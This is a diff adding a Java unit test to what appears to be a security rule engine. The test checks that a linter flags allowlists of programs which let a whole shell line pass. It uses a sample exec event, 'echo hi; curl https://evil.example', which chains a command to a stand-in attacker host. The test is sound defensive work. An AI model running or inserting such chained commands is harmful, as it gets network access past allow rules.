@@ -281,6 +281,31 @@ class ExplainTest {
     }
 
     @Test
+    void lintNamesAListOfProgramsThatALineForTheShellPasses() {
+        String rule = """
+                [security.rules.process.list]
+                on = "process.exec"
+                if = 'process.exec.executable in ["echo", "ls"]%s'
+                decision = "%s"
+                """;
+
+        assertThat(warnings(rule.formatted("", "allow")))
+                .singleElement()
+                .asString()
+                .contains("also allows lines for a shell", "&& size(process.exec.argv) > 0");
+        assertThat(warnings(rule.formatted(" && size(process.exec.argv) > 0", "allow")))
+                .isEmpty();
+        assertThat(warnings(rule.formatted("", "block"))).isEmpty();
+        SecurityEvent line = Events.exec("echo hi; curl https://evil.example");
+        assertThat(Events.engine(rule.formatted("", "allow")).evaluate(line).decision())
+                .isEqualTo(Decision.ALLOW);
+        assertThat(Events.engine(rule.formatted(" && size(process.exec.argv) > 0", "allow"))
+                        .evaluate(line)
+                        .decision())
+                .isEqualTo(Decision.BLOCK);
+    }
+
+    @Test
     void tellsWhenTheBodyMatters() {
         SecurityEngine engine = Events.engine("""
                 [security.rules.http.a]
